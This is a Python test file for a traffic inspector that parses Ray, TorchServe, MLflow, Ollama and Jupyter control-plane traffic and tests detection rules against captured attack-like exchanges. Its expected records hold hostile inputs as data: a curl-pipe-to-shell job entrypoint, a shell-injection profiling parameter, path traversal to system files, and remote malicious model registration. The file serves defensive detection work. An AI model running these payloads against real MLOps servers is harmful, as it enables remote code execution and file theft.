"""The MLOps control-plane layers: `ray`, `torchserve`, `mlflow`, `ollama`, `jupyter`.

pcaps/clients/{ray,torchserve,mlflow,ollama,jupyter}.pcap (made by pcaps/clients/make_mlops.py:
urllib, raw sockets and grpcio against protocol-shaped servers, not the products) go through the
whole offline pipeline and every layer object is asserted whole; hand-built exchanges cover the
shapes and malformed variants the captures do not.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from httpapi_support import (
    CLIENTS,
    REPO,
    alerts,
    analyze,
    anomalies,
    check_catalogue,
    exchange,
    exchanges,
    grpc_exchange,
    grpc_exchanges,
    layer_records,
    rerun_script,
    ruleset,
    run_layer,
)
from hypothesis import HealthCheck, given, settings

from inspector.engine import Engine
from inspector.lab.traffic_models import gguf_bytes
from inspector.protocols import jupyter, mlflow, ollama, ray, torchserve
from inspector.protocols.protobuf import encode_message
from inspector.rules import load_config, load_rules

LAYERS = {"ray": ray, "torchserve": torchserve, "mlflow": mlflow, "ollama": ollama, "jupyter": jupyter}

PKG = 'gcs://_ray_pkg_5b1e1c2f3a4d5e6f.zip'
RAY_EXPECTED = [
    {'api': 'version', 'ray_version': '2.9.0'},
    {'api': 'package_check', 'package_uri': PKG, 'error': f'Package {PKG} does not exist'},
    {'api': 'package_upload', 'package_uri': PKG},
    {'api': 'job_submit', 'job_agent': False, 'entrypoint': 'python train.py --epochs 3', 'entrypoint_length': 26,
     'submission_id': 'raysubmit_train0001', 'job_id': '02000000', 'metadata_keys': ['owner'],
     'runtime_env_keys': ['working_dir', 'pip', 'env_vars'], 'pip': ['torch==2.3.0', 'requests'],
     'working_dir': PKG, 'env_var_names': ['WANDB_API_KEY', 'EPOCHS'], 'entrypoint_num_gpus': 1},
    {'api': 'job_info', 'job_agent': False, 'job_id': 'raysubmit_train0001', 'submission_id': 'raysubmit_train0001',
     'job_status': 'RUNNING'},
    {'api': 'job_logs', 'job_agent': False, 'job_id': 'raysubmit_train0001'},
    {'api': 'job_stop', 'job_agent': False, 'job_id': 'raysubmit_train0001'},
    {'api': 'job_delete', 'job_agent': False, 'job_id': 'raysubmit_train0001'},
    {'api': 'job_submit', 'job_agent': True, 'entrypoint': "bash -c 'curl -s http://198.51.100.7/x.sh | sh'",
     'entrypoint_length': 47, 'submission_id': 'raysubmit_apisim00000001', 'job_id': '02000000',
     'metadata_keys': ['job_submission_id'], 'runtime_env_keys': []},
    {'api': 'serve_deploy', 'applications': ['app1'], 'import_paths': ['fruit:deployment_graph'],
     'runtime_env_keys': ['working_dir'],
     'working_dir': 'https://github.com/ray-project/serve_config_examples/archive/HEAD.zip'},
    {'api': 'cpu_profile', 'pid': '1', 'ip': '127.0.0.1', 'duration': '5', 'format': '`touch /tmp/pwned`',
     'native': '0', 'error': 'Failed to execute: py-spy record -o profile.svg --format '
                             'pid=1&ip=127.0.0.1&duration=5&native=0&format=`touch%20/tmp/pwne'},
    {'api': 'state_logs', 'node_id': 'abc', 'filename': '../../../../etc/passwd'},
    {'api': 'cluster_status'},
    {'api': 'job_submit', 'job_agent': False,
     'error': "Traceback (most recent call last):\n  ...\nTypeError: __init__() missing 1 required positional "
              "argument: 'entrypoint'\n"},
]

TORCHSERVE_EXPECTED = [
    {'api': 'register_model', 'transport': 'rest', 'url': 'http://198.51.100.7:8888/evil.mar', 'url_scheme': 'http',
     'url_host': '198.51.100.7', 'model_name': 'evil', 'initial_workers': 1, 'synchronous': True,
     'message': 'Model "evil" Version: 1.0 registered with 1 initial workers'},
    {'api': 'register_model', 'transport': 'rest', 'url': 'file:///etc/passwd', 'url_scheme': 'file',
     'message': 'Given URL file:///etc/passwd does not match any allowed URL(s)'},
    {'api': 'scale_workers', 'transport': 'rest', 'model_name': 'evil', 'min_worker': 2, 'max_worker': 4,
     'synchronous': False, 'message': 'Processing worker updates...'},
    {'api': 'list_models', 'transport': 'rest'},
    {'api': 'describe_model', 'transport': 'rest', 'model_name': 'squeezenet1_1'},
    {'api': 'describe_model', 'transport': 'rest', 'model_name': 'ghost', 'message': 'Model not found: ghost'},
    {'api': 'unregister_model', 'transport': 'rest', 'model_name': 'evil', 'model_version': '1.0',
     'message': 'Model "evil" unregistered'},
    {'api': 'register_workflow', 'transport': 'rest', 'url': 'http://198.51.100.7:8888/evil.war',
     'url_scheme': 'http', 'url_host': '198.51.100.7', 'workflow_name': 'evil',
     'message': 'Workflow "evil" registered'},
    {'api': 'predict', 'transport': 'rest', 'model_name': 'squeezenet1_1'},
    {'api': 'ping', 'transport': 'rest', 'message': 'Healthy'},
    {'api': 'register_model', 'transport': 'grpc', 'initial_workers': 1, 'model_name': 'evil_grpc',
     'synchronous': True, 'url': 'https://user:[redacted]@198.51.100.7/models/evil.mar?X-Amz-Signature=[redacted]',
     'url_scheme': 'https', 'url_host': '198.51.100.7'},
]

RUN = 'a035a8e1cd6335cdd51bcb57b8ef1309'
MLFLOW_EXPECTED = [
    {'endpoint': 'registered-models/create', 'ajax': True, 'api_version': '2.0', 'name': 'cve_2023_1177'},
    {'endpoint': 'model-versions/create', 'ajax': True, 'api_version': '2.0', 'name': 'cve_2023_1177',
     'source': '//proc/self/root'},
    {'endpoint': 'model-versions/get-artifact', 'ajax': False, 'path': 'etc/passwd', 'name': 'cve_2023_1177',
     'version': '1'},
    {'endpoint': 'experiments/create', 'ajax': False, 'api_version': '2.0', 'name': 'exp_6909',
     'experiment_id': '1', 'artifact_location': 'http:///#/../../../../../../../../etc/'},
    {'endpoint': 'runs/create', 'ajax': False, 'api_version': '2.0', 'run_id': RUN, 'experiment_id': '1',
     'artifact_uri': f'http:///#/../../../../../../../../etc/{RUN}/artifacts'},
    {'endpoint': 'model-versions/create', 'ajax': False, 'api_version': '2.0', 'name': 'cve_2023_1177',
     'run_id': RUN, 'source': 'file:///'},
    {'endpoint': 'get-artifact', 'ajax': False, 'path': 'passwd', 'run_id': RUN},
    {'endpoint': 'mlflow-artifacts/artifacts', 'ajax': False, 'api_version': '2.0',
     'path': f'1/{RUN}/artifacts/model/model.pkl'},
    {'endpoint': 'registered-models/get', 'ajax': False, 'api_version': '2.0', 'name': 'does-not-exist',
     'error_code': 'RESOURCE_DOES_NOT_EXIST', 'error': 'Registered Model with name=does-not-exist not found'},
]

GOOD = 'sha256:6a0746a1ec1aef3e7ec53868f220ff6e389f6f8ef87a01d77c96807de94ca2aa'
CONFIG = 'sha256:4fa551d4f938f68b8c1e6afa9d28befb70e3f33f75d0753248d530364aeea40f'
EVIL = '../../../../../../../../etc/ld.so.preload'
OLLAMA_EXPECTED = [
    {'api': 'pull', 'name': 'llama3.2:1b', 'registry': 'registry.ollama.ai', 'tag': '1b', 'stream': True,
     'status': 'success', 'digests': [GOOD]},
    {'api': 'registry_manifest', 'name': 'library/evil', 'registry': '127.0.0.1:5005', 'tag': 'latest',
     'manifest_digests': [CONFIG, EVIL, GOOD], 'invalid_digests': [EVIL], 'layer_count': 2},
    {'api': 'pull', 'name': '127.0.0.1:5005/library/evil:latest', 'registry': '127.0.0.1:5005', 'tag': 'latest',
     'insecure': True, 'stream': True, 'status': 'pulling manifest', 'error': f'invalid digest format: {EVIL}'},
    {'api': 'push', 'name': 'registry.example.com/team/llama3:ft', 'registry': 'registry.example.com', 'tag': 'ft',
     'stream': False, 'status': 'success'},
    {'api': 'create', 'name': 'mario', 'registry': 'registry.ollama.ai', 'stream': True, 'from': 'llama3.2',
     'files': ['adapter.gguf'], 'digests': [GOOD], 'status': 'success'},
    {'api': 'create', 'name': 'legacy', 'registry': 'registry.ollama.ai', 'stream': True,
     'modelfile': 'FROM /etc/passwd\nTEMPLATE {{ .Prompt }}', 'status': 'success'},
    {'api': 'copy', 'source': 'llama3.2', 'destination': 'llama3-backup'},
    {'api': 'show', 'name': 'llama3.2'},
    {'api': 'delete', 'name': 'llama3-backup'},
    {'api': 'delete', 'name': 'missing-model', 'error': "model 'missing-model' not found"},
    {'api': 'tags'},
    {'api': 'version'},
    {'api': 'blob_check', 'digest': GOOD},
    {'api': 'blob_upload', 'digest': 'sha256:../../../etc/cron.d/x',
     'invalid_digests': ['sha256:../../../etc/cron.d/x']},
]

KERNEL = '5f2b3c4d-0000-4000-8000-00000000abcd'
NO_CREDS = {'token_in_url': False, 'credentials_present': False}
JUPYTER_EXPECTED = [
    {'api': 'kernel_list', 'token_in_url': True, 'credentials_present': True},
    {'api': 'kernel_create', **NO_CREDS, 'kernel_name': 'python3', 'kernel_id': KERNEL},
    {'api': 'kernel_channels', 'kernel_id': KERNEL, **NO_CREDS, 'websocket': True},
    {'api': 'session_create', 'token_in_url': False, 'credentials_present': True, 'kernel_name': 'python3',
     'kernel_id': KERNEL, 'path': 'Untitled.ipynb', 'content_type': 'notebook',
     'session_id': '0c1d2e3f-0000-4000-8000-00000000cafe'},
    {'api': 'terminal_create', **NO_CREDS, 'terminal_name': '1'},
    {'api': 'terminal_page', 'terminal_name': '1', **NO_CREDS},
    {'api': 'contents_save', 'path': '.bashrc', **NO_CREDS, 'content_type': 'file', 'content_format': 'text',
     'content_length': 35},
    {'api': 'contents_get', 'path': 'work dir', 'token_in_url': False, 'credentials_present': True},
]

EXPECTED = {"ray": RAY_EXPECTED, "torchserve": TORCHSERVE_EXPECTED, "mlflow": MLFLOW_EXPECTED,
            "ollama": OLLAMA_EXPECTED, "jupyter": JUPYTER_EXPECTED}
CAPTURE_ANOMALIES = {"ray": [("ray", "ray_request_invalid_json")], "torchserve": [], "mlflow": [], "ollama": [],
                     "jupyter": []}


def objects(layer: str, folder=CLIENTS) -> list[dict]:
    return [r[layer] for r in layer_records(folder / f"{layer}.pcap", layer)]


# --- the captures -----------------------------------------------------------------------------------


@pytest.mark.parametrize("layer", sorted(EXPECTED))
def test_capture_record_by_record(layer):
    _, records = analyze(CLIENTS / f"{layer}.pcap")
    transactions = [r for r in records if r["event_type"] not in ("flow", "anomaly")]
    assert [r.get(layer) for r in transactions] == EXPECTED[layer]
    assert {r["event_type"] for r in transactions} == {layer}
    assert anomalies(records) == CAPTURE_ANOMALIES[layer]


def test_secrets_never_reach_the_log():
    text = json.dumps([analyze(CLIENTS / f"{layer}.pcap")[1] for layer in EXPECTED])
    for secret in ("0123456789abcdef0123456789abcdef0123456789abcdef", "never-logged-secret", "hunter2", "abc123"):
        assert secret not in text
    assert "token=[redacted]" in text and "token [redacted sha256:" in text


RULES = {
    "ollama_insecure_pull.yml": """
title: Ollama pull from an insecure registry
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90001
sid: 9420001
status: test
level: high
event: ollama
detection:
  selection:
    ollama.api: [pull, push]
    ollama.insecure: true
  condition: selection
""",
    "ollama_bad_digest.yml": """
title: Ollama manifest or blob digest that is not a sha256
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90002
sid: 9420002
status: test
level: critical
event: ollama
detection:
  selection:
    ollama.invalid_digests|exists: true
  condition: selection
""",
    "mlflow_traversal_source.yml": """
title: MLflow model version or experiment pointing into the server's file system
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90003
sid: 9420003
status: test
level: critical
event: mlflow
detection:
  source:
    mlflow.source|startswith: ['//', 'file:']
  location:
    mlflow.artifact_location|contains: '..'
  condition: source or location
""",
    "ray_profile_injection.yml": """
title: Ray profiling parameter carrying a shell command
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90004
sid: 9420004
status: test
level: critical
event: ray
detection:
  selection:
    ray.format|re: '[`$;|&]'
  condition: selection
""",
    "torchserve_remote_archive.yml": """
title: TorchServe registration of a remote archive
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90005
sid: 9420005
status: test
level: high
event: torchserve
detection:
  selection:
    torchserve.api: [register_model, register_workflow]
    torchserve.url_scheme: [http, https]
  condition: selection
""",
    "jupyter_kernel_without_credentials.yml": """
title: Jupyter kernel or terminal created without credentials
id: 2f1e0d9c-8b7a-4695-a4b3-c2d1e0f90006
sid: 9420006
status: test
level: high
event: jupyter
detection:
  selection:
    jupyter.api: [kernel_create, terminal_create]
    jupyter.credentials_present: false
  condition: selection
""",
}


@pytest.fixture(scope="module")
def rules(tmp_path_factory):
    return ruleset(tmp_path_factory.mktemp("mlops_rules"), RULES)


@pytest.mark.parametrize(("layer", "expected"), [
    ("ollama", [(9420002, "registry_manifest"), (9420001, "pull"), (9420002, "blob_upload")]),
    ("mlflow", [(9420003, "model-versions/create"), (9420003, "experiments/create"),
                (9420003, "model-versions/create")]),
    ("ray", [(9420004, "cpu_profile")]),
    ("torchserve", [(9420005, "register_model"), (9420005, "register_workflow"), (9420005, "register_model")]),
    ("jupyter", [(9420006, "kernel_create"), (9420006, "terminal_create")]),
])
def test_rules_fire_on_the_captures(rules, layer, expected):
    key = "endpoint" if layer == "mlflow" else "api"
    fired = alerts(CLIENTS / f"{layer}.pcap", rules)
    assert [(a["alert"]["signature_id"], a[layer][key]) for a in fired] == expected


@pytest.mark.slow
def test_capture_script_reproduces_the_transactions(tmp_path):
    rerun_script("make_mlops.py", tmp_path)
    for layer, expected in EXPECTED.items():
        assert objects(layer, tmp_path) == expected, layer


# --- ray --------------------------------------------------------------------------------------------


def test_ray_runtime_env_names_only():
    body = {"entrypoint": "python x.py " + "a" * 5000, "runtime_env": {
        "pip": {"packages": ["--index-url https://user:tok3n@pypi.example.com/simple", "numpy"]},
        "conda": {"dependencies": ["python=3.11", {"pip": ["torch"]}]},
        "py_modules": ["s3://bucket/mod.zip?X-Amz-Signature=deadbeef"],
        "env_vars": {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI"}, "image_uri": "anyscale/ray:2.9.0"}}
    obj, _ = run_layer(ray, exchange("POST", "/api/jobs/", body, status=None))
    assert obj == {"api": "job_submit", "job_agent": False, "entrypoint": body["entrypoint"][:ray.ENTRYPOINT_CHARS],
                   "entrypoint_length": 5012, "runtime_env_keys": ["pip", "conda", "py_modules", "env_vars",
                                                                   "image_uri"],
                   "pip": ["--index-url https://user:[redacted]@pypi.example.com/simple", "numpy"],
                   "conda": ["python=3.11", "pip:torch"],
                   "py_modules": ["s3://bucket/mod.zip?X-Amz-Signature=[redacted]"],
                   "env_var_names": ["AWS_SECRET_ACCESS_KEY"], "image_uri": "anyscale/ray:2.9.0"}
    assert "wJalrXUtnFEMI" not in json.dumps(obj) and "tok3n" not in json.dumps(obj)


@pytest.mark.parametrize(("method", "path", "api", "extra"), [
    ("GET", "/api/job_agent/jobs/raysubmit_1/logs/tail", "job_logs_tail", {"job_agent": True,
                                                                          "job_id": "raysubmit_1"}),
    ("GET", "/api/v0/tasks?limit=10", "state_tasks", {}),
    ("GET", "/api/actors/kill?actor_id=ab&force_kill=true", "actors_kill", {}),
    ("DELETE", "/api/serve/applications/", "serve_delete", {}),
    ("GET", "/worker/traceback?pid=12%3Bid&native=1", "traceback", {"pid": "12;id", "native": "1",
                                                                    "pid_not_numeric": True}),
    ("GET", "/task/cpu_profile?task_id=t1&attempt_number=0&node_id=n", "task_cpu_profile",
     {"task_id": "t1", "attempt_number": "0", "node_id": "n"}),
    ("GET", "/api/v0/logs/stream?node_ip=10.0.0.1&actor_id=a1", "state_logs", {"node_ip": "10.0.0.1",
                                                                                "actor_id": "a1"}),
])
def test_ray_routes(method, path, api, extra):
    obj, _ = run_layer(ray, exchange(method, path, status=None))
    assert obj == {"api": api, **extra}


@pytest.mark.parametrize(("path", "answer"), [
    ("/api/version", {"version": "0.1.33"}),  # Ollama's
    ("/api/pull", {}),
    ("/api/kernels", []),
    ("/api/2.0/mlflow/runs/create", {}),
    ("/worker/other", {}),
])
def test_ray_leaves_other_apis_alone(path, answer):
    assert run_layer(ray, exchange("GET", path, response_body=answer)) == (None, [])


# --- torchserve -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path", "expected"), [
    ("PUT", "/models/resnet/2.0/set-default", {"api": "set_default", "model_name": "resnet", "model_version": "2.0"}),
    ("DELETE", "/workflows/wf1", {"api": "unregister_workflow", "workflow_name": "wf1"}),
    ("POST", "/explanations/resnet/2.0", {"api": "explain", "model_name": "resnet", "model_version": "2.0"}),
    ("POST", "/wfpredict/wf1", {"api": "workflow_predict", "workflow_name": "wf1"}),
    ("OPTIONS", "/", {"api": "api_description"}),
    ("POST", "/models?url=s3%3A%2F%2Fb%2Fm.mar&handler=custom.py&runtime=python3&batch_size=8&max_batch_delay=50"
             "&response_timeout=600", {"api": "register_model", "url": "s3://b/m.mar", "url_scheme": "s3",
                                       "url_host": "b", "handler": "custom.py", "runtime": "python3",
                                       "batch_size": 8, "max_batch_delay": 50, "response_timeout": 600}),
    ("PUT", "/models/r?number_gpu=2&timeout=-1", {"api": "scale_workers", "model_name": "r", "number_gpu": 2,
                                                   "timeout": -1}),
])
def test_torchserve_routes(method, path, expected):
    obj, _ = run_layer(torchserve, exchange(method, path, status=None))
    assert obj == {**expected, "transport": "rest"} | {"api": expected["api"]}


def test_torchserve_registration_posted_as_json():
    obj, _ = run_layer(torchserve, exchange("POST", "/models", {"url": "https://h.example/m.mar", "model_name": "m"},
                                            status=None))
    assert obj == {"api": "register_model", "transport": "rest", "url": "https://h.example/m.mar",
                   "url_scheme": "https", "url_host": "h.example", "model_name": "m"}


@pytest.mark.parametrize(("path", "answer"), [
    ("/models", {"data": [{"id": "gpt-4o"}]}),
    ("/models/x", {"id": "x"}),
    ("/ping", "pong"),
    ("/workflows", []),
])
def test_torchserve_read_only_calls_need_a_torchserve_answer(path, answer):
    assert run_layer(torchserve, exchange("GET", path, response_body=answer)) == (None, [])


def test_torchserve_grpc_scale_and_bad_message():
    payload = encode_message([(1, "resnet"), (3, 4), (4, 1), (7, (1 << 64) - 1)])  # timeout -1 as int32 varint
    obj, problems = run_layer(torchserve, grpc_exchange(
        "/org.pytorch.serve.grpc.management.ManagementAPIsService/ScaleWorker", payload))
    assert obj == {"api": "scale_workers", "transport": "grpc", "model_name": "resnet", "max_worker": 4,
                   "min_worker": 1, "timeout": -1}
    assert problems == []
    obj, problems = run_layer(torchserve, grpc_exchange(
        "/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions", b"\x0a\x10short"))
    assert obj == {"api": "predict", "transport": "grpc"}
    assert [e for e, _ in problems] == ["torchserve_protobuf_error"]


# --- mlflow -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path", "body", "expected"), [
    ("POST", "/api/2.0/preview/mlflow/model-versions/transition-stage",
     {"name": "m", "version": 3, "stage": "Production"},
     {"endpoint": "model-versions/transition-stage", "ajax": False, "api_version": "2.0", "name": "m",
      "version": "3", "stage": "Production"}),
    ("POST", "/api/3.0/mlflow/registered-models/rename", {"name": "a", "new_name": "b"},
     {"endpoint": "registered-models/rename", "ajax": False, "api_version": "3.0", "name": "a", "new_name": "b"}),
    ("POST", "/api/2.0/mlflow/runs/log-parameter", {"run_id": "r1", "key": "lr", "value": "0.1"},
     {"endpoint": "runs/log-parameter", "ajax": False, "api_version": "2.0", "run_id": "r1", "key": "lr"}),
    ("POST", "/api/2.0/mlflow-artifacts/mpu/create/1/r/a%20b/x.bin", {"path": "x.bin", "num_parts": 2},
     {"endpoint": "mlflow-artifacts/mpu/create", "ajax": False, "api_version": "2.0", "path": "1/r/a b/x.bin"}),
    ("GET", "/api/2.0/mlflow-artifacts/artifacts?path=..%2F..%2Fetc", b"",
     {"endpoint": "mlflow-artifacts/artifacts", "ajax": False, "api_version": "2.0", "path": "../../etc"}),
    ("POST", "/ajax-api/2.0/mlflow/model-versions/create",
     {"name": "m", "source": "https://u:p4ss@host/m?sig=x", "run_link": "http://x/r"},
     {"endpoint": "model-versions/create", "ajax": True, "api_version": "2.0", "name": "m",
      "source": "https://u:[redacted]@host/m?sig=[redacted]", "run_link": "http://x/r"}),
])
def test_mlflow_routes_and_values(method, path, body, expected):
    obj, problems = run_layer(mlflow, exchange(method, path, body, status=None))
    assert obj == expected
    assert problems == []


@pytest.mark.parametrize("path", ["/api/2.0/other/x", "/api/pull", "/mlflow/api/2.0", "/api/2.0/mlflow"])
def test_mlflow_not_claimed(path):
    assert run_layer(mlflow, exchange("GET", path)) == (None, [])


def test_mlflow_artifact_download_is_not_parsed_as_an_answer():
    obj, problems = run_layer(mlflow, exchange("GET", "/get-artifact?path=model.json&run_uuid=r",
                                               response_body={"error_code": "not really", "x": [1]}))
    assert obj == {"endpoint": "get-artifact", "ajax": False, "path": "model.json", "run_id": "r"}
    assert problems == []


# --- ollama -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "registry", "tag"), [
    ("llama3", "registry.ollama.ai", None),
    ("library/llama3:8b", "registry.ollama.ai", "8b"),
    ("example.com/llama3", "registry.ollama.ai", None),  # two parts: a namespace, as Ollama reads it
    ("Evil.Example:5000/ns/m:latest", "evil.example:5000", "latest"),
    ("https://evil.example/ns/m", "evil.example", None),
    ("/ns/m", "registry.ollama.ai", None),
])
def test_model_names(name, registry, tag):
    assert ollama.split_model_name(name) == (registry, tag)


MANIFEST = {"schemaVersion": 2, "config": {"mediaType": "application/vnd.docker.container.image.v1+json",
                                           "digest": CONFIG},
            "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": "sha256-" + "a" * 64},
                       {"mediaType": "application/vnd.ollama.image.license", "digest": None}]}


def test_registry_manifest_claimed_by_its_ollama_layers_whatever_the_client():
    obj, _ = run_layer(ollama, exchange("GET", "/v2/ns/m/manifests/latest", b"", authority="Reg.Example",
                                        response_body=MANIFEST,
                                        response_type="application/vnd.docker.distribution.manifest.v2+json"))
    assert obj == {"api": "registry_manifest", "name": "ns/m", "registry": "reg.example", "tag": "latest",
                   "manifest_digests": [CONFIG, "sha256-" + "a" * 64, "None"], "invalid_digests": ["None"],
                   "layer_count": 2}


def test_registry_traffic_of_other_clients_is_not_ollama():
    docker = {"schemaVersion": 2, "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                                              "digest": GOOD}]}
    assert run_layer(ollama, exchange("GET", "/v2/library/nginx/manifests/latest", b"",
                                      response_body=docker)) == (None, [])
    obj, _ = run_layer(ollama, exchange("GET", f"/v2/library/llama3/blobs/{GOOD}", b"", status=None,
                                        headers=[("user-agent", "ollama/0.3.0 (amd64 linux) Go/go1.22.5")]))
    assert obj == {"api": "registry_blob", "name": "library/llama3", "registry": "127.0.0.1:8000", "digest": GOOD}


def test_ollama_progress_lines_and_errors():
    lines = (b'{"status": "pulling manifest"}\n{"status": "pulling 6a07", "digest": "sha256:..%2f"}\nnot json\n'
             b'{"error": "pull model manifest: file does not exist"}\n')
    obj, problems = run_layer(ollama, exchange("POST", "/api/pull", {"name": "x/y/z", "insecure": "true"},
                                               response_body=lines, response_type="application/x-ndjson"))
    assert obj == {"api": "pull", "name": "x/y/z", "registry": "x", "insecure": True, "stream": True,
                   "status": "pulling 6a07", "digests": ["sha256:..%2f"], "invalid_digests": ["sha256:..%2f"],
                   "error": "pull model manifest: file does not exist"}
    assert [e for e, _ in problems] == ["ollama_ndjson_invalid_line"]


def test_ollama_create_with_quantize_and_bad_body():
    obj, _ = run_layer(ollama, exchange("POST", "/api/create", {"model": "m", "quantize": "q4_K_M",
                                                                "adapters": {"a.gguf": "sha256:zz"}}, status=None))
    assert obj == {"api": "create", "name": "m", "registry": "registry.ollama.ai", "stream": True,
                   "quantize": "q4_K_M"}
    obj, problems = run_layer(ollama, exchange("POST", "/api/pull", b'{"name": ', status=None))
    assert (obj, [e for e, _ in problems]) == ({"api": "pull"}, ["ollama_request_invalid_json"])


@pytest.mark.parametrize(("method", "path"), [("GET", "/api/blobs/sha256:x"), ("POST", "/api/blobs/"),
                                              ("HEAD", "/api/blobs/a/b"), ("GET", "/v2/models/m/ready"),
                                              ("POST", "/api/unknown")])
def test_ollama_not_claimed(method, path):
    assert run_layer(ollama, exchange(method, path, status=None)) == (None, [])


def test_ollama_version_yields_to_ray():
    ex = exchange("GET", "/api/version", response_body={"version": "4", "ray_version": "2.9.0"})
    assert run_layer(ray, ex)[0] == {"api": "version", "ray_version": "2.9.0"}
    from inspector.apps import transaction_record
    record, _ = transaction_record(None, ex)
    assert (record["event_type"], "ollama" in record) == ("ray", False)


# --- jupyter ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path", "body", "expected"), [
    ("PATCH", "/user/alice/api/contents/a.ipynb", {"path": "../../etc/cron.d/x"},
     {"api": "contents_rename", "path": "a.ipynb", "new_path": "../../etc/cron.d/x"}),
    ("POST", "/api/kernels/k1/restart", b"", {"api": "kernel_restart", "kernel_id": "k1"}),
    ("DELETE", "/api/sessions/s1", b"", {"api": "session_delete", "session_id": "s1"}),
    ("GET", "/api/kernelspecs/ir", b"", {"api": "kernelspecs", "kernel_name": "ir"}),
    ("GET", "/terminals/websocket/7", b"", {"api": "terminal_websocket", "terminal_name": "7"}),
    ("POST", "/api/contents/x/checkpoints", b"", {"api": "contents_checkpoints", "path": "x"}),
])
def test_jupyter_routes(method, path, body, expected):
    obj, _ = run_layer(jupyter, exchange(method, path, body, status=None))
    assert obj == {**expected, "token_in_url": False, "credentials_present": False} | expected


@pytest.mark.parametrize(("headers", "present"), [
    ([("authorization", "token abc")], True),
    ([("cookie", "_xsrf=2|a; jupyterhub-session-id=x")], True),
    ([("cookie", "_xsrf=2|a")], False),
    ([], False),
])
def test_jupyter_credentials(headers, present):
    obj, _ = run_layer(jupyter, exchange("POST", "/api/kernels", {"name": "python3"}, headers=headers, status=None))
    assert obj["credentials_present"] is present


# --- every layer --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("layer", "method", "path", "body"), [
    ("torchserve", "PUT", "/models/llama/model.safetensors", b"\x00" * 8),
    ("ray", "PUT", "/api/packages/gcs/x.zip", b"PK"),
    ("mlflow", "GET", "/get-artifact", b""),
    ("ollama", "GET", "/api/tags", b""),
    ("jupyter", "PUT", "/api/contents/a.ipynb", {"type": "file"}),
])
def test_s3_calls_are_left_to_the_s3_layer(layer, method, path, body):
    """A bucket may be named `models`, `api`, ...: an exchange the s3 layer claimed is not re-typed."""
    ex = exchange(method, path, body, status=200, response_body={"status": "Healthy", "models": []})
    assert run_layer(LAYERS[layer], ex)[0] is not None
    assert run_layer(LAYERS[layer], ex, earlier={"s3": {"operation": "PutObject"}}) == (None, [])


PATHS = {
    "ray": ["/api/jobs/", "/api/jobs/x", "/api/jobs/x/stop", "/api/job_agent/jobs/", "/api/packages/gcs/p.zip",
            "/api/serve/applications/", "/worker/cpu_profile", "/api/v0/logs/file", "/api/version"],
    "torchserve": ["/models", "/models/m", "/models/m/1/set-default", "/workflows", "/predictions/m", "/ping", "/"],
    "mlflow": ["/api/2.0/mlflow/model-versions/create", "/ajax-api/2.0/mlflow/experiments/create",
               "/api/2.0/mlflow-artifacts/artifacts/x", "/api/2.0/mlflow-artifacts/mpu/create/x", "/get-artifact",
               "/model-versions/get-artifact"],
    "ollama": ["/api/pull", "/api/push", "/api/create", "/api/delete", "/api/copy", "/api/blobs/sha256:a",
               "/v2/a/b/manifests/latest", "/v2/a/blobs/sha256:b", "/api/version", "/api/chat"],
    "jupyter": ["/api/kernels", "/api/kernels/k/channels", "/api/sessions", "/api/terminals", "/terminals/1",
                "/api/contents/a", "/user/x/api/kernels"],
}
KEYS = {
    "ray": ["entrypoint", "runtime_env", "pip", "conda", "env_vars", "working_dir", "py_modules", "metadata",
            "submission_id", "job_id", "applications", "import_path", "status", "ray_version", "dependencies"],
    "torchserve": ["url", "model_name", "status", "message", "code", "models", "modelName"],
    "mlflow": ["name", "source", "artifact_location", "run_id", "path", "version", "error_code", "message",
               "artifact_uri", "run", "info", "experiment_id"],
    "ollama": ["model", "name", "insecure", "stream", "files", "adapters", "from", "modelfile", "source",
               "destination", "status", "digest", "error", "layers", "config", "mediaType"],
    "jupyter": ["name", "kernel", "path", "type", "format", "content", "id"],
}


@pytest.mark.parametrize("layer", sorted(LAYERS))
def test_never_raises(layer):
    module = LAYERS[layer]

    @settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(exchanges(PATHS[layer], KEYS[layer]))
    def check(ex):
        obj, problems = run_layer(module, ex)
        json.dumps(obj)
        assert all(event.startswith(f"{layer}_") for event, _ in problems)
        assert obj is not None or problems == []  # no anomalies about exchanges the layer does not claim

    check()


@pytest.mark.parametrize("layer", ["torchserve"])
def test_grpc_never_raises(layer):
    @settings(max_examples=200, deadline=None)
    @given(grpc_exchanges(["/org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel",
                           "/org.pytorch.serve.grpc.management.ManagementAPIsService/ScaleWorker",
                           "/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions"]))
    def check(ex):
        obj, problems = run_layer(torchserve, ex)
        assert obj is not None
        json.dumps(obj)
        assert {e for e, _ in problems} <= {"torchserve_protobuf_error"}

    check()


EXTRA = {
    "ray": [exchange("GET", "/api/%6Aobs/", status=None),
            exchange("POST", "/api/jobs/", {"entrypoint": "x", "runtime_env": {
        "conda": "env1", "py_modules": ["m"], "container": {"image": "img"}}}, status=None),
        exchange("GET", "/task/traceback?task_id=t&attempt_number=1&pid=x&node_ip=n&actor_id=a", status=None)],
    "torchserve": [exchange("POST", "/models?url=x&handler=h&runtime=r&batch_size=1&max_batch_delay=2"
                                    "&response_timeout=3", status=None),
                   exchange("PUT", "/models/m?number_gpu=1&timeout=4", status=None),
                   exchange("DELETE", "/%6Dodels/m", status=None)],
    "mlflow": [exchange("POST", "/api/2.0/mlflow/runs/set-tag", {"run_id": "r", "key": "k", "new_name": "n",
                                                                 "stage": "s", "run_link": "l"}, status=None),
               exchange("POST", "/mlflow//api/2.0/mlflow/runs%2Fcreate", {}, status=None)],
    "ollama": [exchange("POST", "/api/create", {"model": "m", "quantize": "q"}, status=None),
               exchange("POST", "/api/%70ull", {"model": "m"}, status=None),
